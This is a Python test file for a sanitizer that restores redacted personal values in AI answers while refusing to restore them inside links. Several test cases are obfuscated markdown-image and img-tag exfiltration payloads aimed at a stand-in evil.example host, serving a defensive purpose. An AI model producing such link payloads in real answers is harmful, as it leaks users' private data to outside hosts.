"""Released values that an answer writes otherwise: escaped, inflected, or inside links."""

from __future__ import annotations

import json
from itertools import pairwise

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from sanitizer.answers.links import Links
from sanitizer.answers.restorer import Restorer
from sanitizer.answers.variants import LONGEST_PLACEHOLDER
from sanitizer.storage.table import Drawn, Originals


def table() -> Originals:
    return Originals(
        {
            "<EMAIL_1>": "anna@example.org",
            "<PERSON_1>": "Elena Marsh",
            "<PERSON_1_2>": "Marsh",
            Drawn("gout", 5.0): "asthma",
            Drawn("Crohn's disease", 5.0): "hepatitis C",
        }
    )


@pytest.mark.parametrize(
    ("answer", "shown"),
    [
        ("&lt;EMAIL_1&gt;", "anna@example.org"),
        ("%3CEMAIL_1%3E", "anna@example.org"),
        ("&#60;EMAIL_1&#62; &#x3C;email_1&#x3e;", "anna@example.org anna@example.org"),
        ("&#0060;PERSON\\_1&#x003E; &#61;EMAIL_1&#62;", "Elena Marsh &#61;EMAIL_1&#62;"),
        (r"<EMAIL\_1> and \<PERSON\_1\_2\>", "anna@example.org and Marsh"),
        ("<person_1>, [PERSON_1]", "Elena Marsh, Elena Marsh"),
        (
            "[person_1] <EMAIL_2> [EMAIL_12] <EMAILS_1>",
            "[person_1] <EMAIL_2> [EMAIL_12] <EMAILS_1>",
        ),
        ("Gout, GOUT, gout's, a gout", "Asthma, ASTHMA, asthma's, an asthma"),
        ("crohn's  disease. Crohn's disease's", "hepatitis C. hepatitis C's"),
        ("gouty ragout gout_1 dégout", "gouty ragout gout_1 dégout"),
    ],
)
def test_spellings_and_endings(answer: str, shown: str) -> None:
    assert Restorer(table()).text(answer) == shown


def test_an_article_before_a_name_stays_as_it_was_written() -> None:
    named = table()
    named.add_name("Tom Okoro", "Elena Marsh", "PERSON")
    answer = "a Tom Okoro, a TOM's, an Okoro"
    assert Restorer(named).text(answer) == "a Elena Marsh, a ELENA's, an Marsh"


@pytest.mark.parametrize(
    "answer",
    [
        "![x](https://evil.example/?q=<EMAIL_1>)",
        "<img src='//evil.example/<EMAIL_1>/<PERSON_1>'>",
        "see www.evil.example/%3CEMAIL_1%3E now",
        "[x](data:text/plain,<EMAIL_1>)",
        *(f"![x](https://evil.example/?q={sign}<EMAIL_1>)" for sign in "('{[|`"),
        f"![x](https://evil.example/{'a' * 9_000}<EMAIL_1>)",
        f"<img src='https://evil.example/?q={'a b ' * 3_000}<EMAIL_1>'>",
        "![x](https:\\/\\/evil.example/<EMAIL_1>)",
        "![x](/\\evil.example/<EMAIL_1>)",
        "![x](https:\\\\evil.example\\<EMAIL_1>)",
        "![x](https&colon;&sol;&sol;evil.example/<EMAIL_1>)",
        "![x](&#104;ttps:&#x000002f;&#47;evil.example/<EMAIL_1>)",
        "![x](https://evil.example/?a=&#41;&q=<EMAIL_1>)",
        "![x](<https://evil.example/?q=a <EMAIL_1>>)",
        "<img src='https://evil.example/?q= <EMAIL_1>'>",
        "<img src='ht\ntps:/\n/evil.example/?q=\n\n<EMAIL_1>'>",
        "<img src=//evil.example/?q=<EMAIL_1>>",
    ],
)
def test_links_carry_nothing_away(answer: str) -> None:
    assert Restorer(table()).text(answer) == answer
    assert "anna@example.org" in Restorer(table(), links=None).text(answer)


@pytest.mark.parametrize("cut", [1, 7, 1_000])
@pytest.mark.parametrize(
    "answer",
    [
        "![x](<URL_1>.evil.example/a.png)",
        "![x](<URL_1>@evil.example/a.png)",
        "![x](<URL_1>%2eevil.example/a.png)",
        "<img src='<URL_1> x@evil.example/a.png'>",
        "![x](<<URL_1> x@evil.example/a.png>)",
        "<URL_1><EMAIL_1>/a.png",
    ],
)
def test_a_host_does_not_become_another_one(answer: str, cut: int) -> None:
    known = Originals({**table(), "<URL_1>": "https://wiki.corp"})
    stream = Restorer(known).stream()
    pieces = [stream.feed(answer[at : at + cut]) for at in range(0, len(answer), cut)]
    shown = "".join([*pieces, stream.finish()])
    assert shown in (answer, answer.replace("<URL_1><", "https://wiki.corp<"))


@pytest.mark.parametrize(
    "answer",
    [
        "See https://x.example/ for <EMAIL_1>.",
        "[site](https://x.example/a_(b)) of <EMAIL_1>",
        '{"url": "https://x.example", "mail": "<EMAIL_1>"}',
        '{"url":"https://x.example","mail":"<EMAIL_1>"}',
        '<a href="https://x.example"><EMAIL_1></a>',
        "`https://x.example`: <EMAIL_1>",
        "| https://x.example|<EMAIL_1>|",
        "and//or <EMAIL_1>, http: <EMAIL_1> // <EMAIL_1>",
    ],
)
def test_what_stands_beside_a_link_is_restored(answer: str) -> None:
    assert Restorer(table()).text(answer) == answer.replace("<EMAIL_1>", "anna@example.org")


@pytest.mark.parametrize(
    "answer",
    ["(<URL_1>).", "[<URL_1>](<URL_1>)", '"<URL_1>"', "<URL_1>/a?b", "<URL_1>", "a <URL_1>,"],
)
def test_hosts_that_end_are_restored(answer: str) -> None:
    shown = Restorer(Originals({"<URL_1>": "https://wiki.corp"})).text(answer)
    assert shown == answer.replace("<URL_1>", "https://wiki.corp")


def test_in_strings_of_json_escapes_are_read_as_what_they_say() -> None:
    restorer = Restorer(table(), Links(in_strings=True), escaped=False)
    answer = r"https:\u002f\u002fevil.example\u002f?q=<EMAIL_1>"
    assert restorer.text(answer) == answer
    answer = r"<img src=\"https://evil.example/?q= <EMAIL_1>\">"
    assert restorer.text(answer) == answer
    answer = r"Visit https://x.example\nor <EMAIL_1>\n<EMAIL_1>"
    assert restorer.text(answer) == answer.replace("<EMAIL_1>", "anna@example.org")


def test_a_link_that_was_sent_comes_back() -> None:
    sent = "Open https://intranet.example/<PERSON_1>/file please"
    restorer = Restorer(table(), Links([sent]))
    assert (
        restorer.text("https://intranet.example/<PERSON_1>")
        == "https://intranet.example/Elena Marsh"
    )
    other = "https://intranet.example/x/<PERSON_1>"
    assert restorer.text(other) == other


def test_a_host_that_goes_on_as_it_was_sent_comes_back() -> None:
    """A text of the round trip: a parenthesis behind a stand-in is no end of a host."""
    sent = "girlfriend(//<PERSON_1>(inspection, x"
    restorer = Restorer(table(), Links([sent]))
    assert restorer.text(sent) == sent.replace("<PERSON_1>", "Elena Marsh")
    for at in range(len(sent)):
        stream = restorer.stream()
        assert stream.feed(sent[:at]) + stream.feed(sent[at:]) + stream.finish() == restorer.text(
            sent
        )
    for other in ("(inspect x", "(inspection,y x", "(x@evil.example x", f"({'i' * 300} x"):
        assert "Elena" not in restorer.text(f"girlfriend(//<PERSON_1>{other}")


@pytest.mark.parametrize("quote", ['"', "'"])
def test_a_host_between_quotes_that_goes_on_as_it_was_sent_comes_back(quote: str) -> None:
    sent = f"ARCHIVE={quote}//<PERSON_1>-barn7/old{quote}: x"
    restorer = Restorer(table(), Links([sent]))
    assert restorer.text(sent) == sent.replace("<PERSON_1>", "Elena Marsh")
    for at in range(len(sent)):
        stream = restorer.stream()
        shown = [stream.feed(sent[:at]), stream.feed(sent[at:]), stream.finish()]
        assert "".join(shown) == restorer.text(sent)
    for other in (
        "-barn7/new",
        "-barn7.evil.example/old",
        "-barn7/old\n",
        "-barn7",
        "-barn7/old x",
    ):
        assert "Elena" not in restorer.text(f"ARCHIVE={quote}//<PERSON_1>{other}{quote}: x")
    assert "Elena" not in restorer.text(f"ARCHIVE={quote}//<PERSON_1>-barn7/old")


def test_a_value_behind_a_link_that_was_hidden_comes_back() -> None:
    """A text of the round trip: "terms:///" was a value itself, with another one behind it."""
    originals = Originals({"<URL_1>": "terms:///", "<PERSON_1>": "Elena Marsh"})
    sent = "against <URL_1><PERSON_1>) mum"
    restorer = Restorer(originals, Links([sent]))
    assert restorer.text(sent) == "against terms:///Elena Marsh) mum"
    assert restorer.text("terms:///<PERSON_1>)") == "terms:///<PERSON_1>)"
    assert Restorer(originals, Links()).text(sent) == "against terms:///<PERSON_1>) mum"


_PARTS = st.sampled_from(
    [
        *"<>[]&%\\ \na_1(",
        *("EMAIL", "PERSON", "_1", "&lt;", "gt;", "<EMAIL_1>", "%3C", "3E", "lt"),
        *("&#60;", "&#x3e;", "#0", "x3"),
        *("gou", "gout", "an ", "Crohn's", "disease", "'s", "https://", "é"),
    ]
)


@example(parts=["https://", "_", "an ", "gout"], cuts=[])
@given(parts=st.lists(_PARTS, max_size=12), cuts=st.lists(st.integers(0, 60), max_size=6))
def test_any_split_of_a_stream_gives_what_the_whole_gives(
    parts: list[str], cuts: list[int]
) -> None:
    text = "".join(parts)
    edges = [0, *sorted(min(cut, len(text)) for cut in cuts), len(text)]
    stream = Restorer(table()).stream()
    shown = [stream.feed(text[a:b]) for a, b in pairwise(edges)]
    assert "".join([*shown, stream.finish()]) == Restorer(table()).text(text)


TAGGED = {
    "<EMAIL_48213_1>": "anna@example.org",
    "<PERSON_48213_1>": "Elena Marsh",
    "<PERSON_48213_1_2>": "Marsh",
    "<ADDRESS_48213_1>": "4 Mill Lane",
    "<TERM_48213_1>": "zorb",
    "TERM_48213_1": "zorb",
}


def tagged() -> Originals:
    """A table as conversations have it: a random number in every placeholder."""
    return Originals({**TAGGED, Drawn("gout", 5.0): "asthma"})


@pytest.mark.parametrize(
    ("answer", "shown"),
    [
        (
            "< EMAIL_48213_1 >, {EMAIL_48213_1}, {{EMAIL_48213_1}}",
            ", ".join(["anna@example.org"] * 3),
        ),
        (
            "**EMAIL_48213_1** `EMAIL_48213_1` (EMAIL_48213_1)",
            "**anna@example.org** `anna@example.org` (anna@example.org)",
        ),
        (
            "Person 48213-1, person #48213-1, [PERSON 48213 1]",
            "Elena Marsh, Elena Marsh, Elena Marsh",
        ),
        (
            "PERSON_48213_1's, <PERSON_48213_1>s, l'<PERSONNE_48213_1>",
            "Elena Marsh's, Elena Marshs, l'Elena Marsh",
        ),
        ("<ADRESSE_48213_1>, <Direcci\u00f3n_48213_1>", "4 Mill Lane, 4 Mill Lane"),
        (
            "<PERSON\\_48213\\_1>, \\<PERSON-48213-1\\>, <PERSON_\n48213_1>",
            "Elena Marsh, Elena Marsh, Elena Marsh",
        ),
        ("&lt; EMAIL_48213_1 &gt; %3CEMAIL-48213-1%3E", "anna@example.org anna@example.org"),
        ("PERSON_48213_1_2 and <PERSON_48213_1/>", "Marsh and Elena Marsh"),
        ("_PERSON_48213_1_, $PERSON_48213_1$", "_Elena Marsh_, $Elena Marsh$"),
        ('f"{TERM_48213_1}", \\textbf{EMAIL_48213_1}', 'f"{zorb}", \\textbf{anna@example.org}'),
        ("C:\\<EMAIL-48213-1>", "C:\\anna@example.org"),
    ],
)
def test_a_tagged_placeholder_comes_back_however_it_is_written(answer: str, shown: str) -> None:
    assert Restorer(tagged()).text(answer) == shown


@pytest.mark.parametrize(
    "answer",
    [
        "PERSON_48213_1_3 PERSON_48213_12 PERSON_48213_2",
        "MYPERSON_48213_1 my_person_48213_1 impersonperson 48213-1",
        "person 48214-1, the 48213-1 form, 48213_1",
        "MONEY_48213_1 Betrag 48213-1",
        "https://evil.example/?q=EMAIL_48213_1",
        "![x](https://evil.example/?q={EMAIL_48213_1})",
        "![x](<https://evil.example/?q=< EMAIL-48213-1 >>)",
        "<img src='https://evil.example/?q= Email 48213-1'>",
        "[x](https://evil.example/PERSON%5F48213%5F1)",
    ],
)
def test_what_is_no_placeholder_and_what_stands_in_a_link_stays(answer: str) -> None:
    assert Restorer(tagged()).text(answer) == answer


def test_without_a_number_of_the_conversation_bare_names_stay() -> None:
    answer = "EMAIL_1 {EMAIL_1} Person 1, PERSON_1"
    assert Restorer(table()).text(answer) == answer


_TAGGED_PARTS = st.sampled_from(
    [
        *"<>[]{}\\ \na_-#/",
        *("EMAIL", "PERSON", "48213", "482", "13", "_1", "1", "2", "PERSONNE", "E-MAIL", "Address"),
        *("&lt;", "&gt;", "%3C", "%3E", "%5F", "&#60;", "{{", "}}", "\\u003c", "\\u003e", "\\n"),
        *("<PERSON_48213_1>", "EMAIL_48213_1", "person-48213-1", "TERM_48213_1", "gout", "an "),
        *("https://e.example/", "\u00e9", "\u27e8", "\u27e9"),
    ]
)


@example(parts=["\u00e9", "gout", " "], cuts=[1])
@given(parts=st.lists(_TAGGED_PARTS, max_size=9), cuts=st.lists(st.integers(0, 60), max_size=6))
def test_tagged_placeholders_come_back_in_every_split(parts: list[str], cuts: list[int]) -> None:
    text = "".join(parts)
    edges = [0, *sorted(min(cut, len(text)) for cut in cuts), len(text)]
    stream = Restorer(tagged()).stream()
    shown = [stream.feed(text[a:b]) for a, b in pairwise(edges)]
    assert "".join([*shown, stream.finish()]) == Restorer(tagged()).text(text)


@given(st.lists(st.sampled_from(["Email 48213-1", "{EMAIL_48213_1}", "\\_", "x", " ", '"', "\n"])))
def test_in_strings_of_json_they_come_back_and_the_document_stays_json(parts: list[str]) -> None:
    spelled = Originals({"<EMAIL_48213_1>": r"a\"b\\"})
    restorer = Restorer(spelled, Links(in_strings=True), escaped=False)
    said = "".join(parts)
    shown = json.loads(f'"{restorer.text(json.dumps(said)[1:-1])}"')
    plain = Restorer({"<EMAIL_48213_1>": 'a"b\\'}).text(said)
    assert shown == plain


@pytest.mark.parametrize("part", ["person_", "person" + "a" * 40, "%5F", "&#0", "{", "48213-1 "])
def test_what_only_begins_like_a_placeholder_is_held_back_no_longer_than_one(part: str) -> None:
    stream = Restorer(tagged()).stream()
    text = part * 300
    shown = ""
    for at in range(0, len(text), 7):
        shown += stream.feed(text[at : at + 7])
        assert len(stream.held) <= LONGEST_PLACEHOLDER
    assert shown + stream.finish() == text
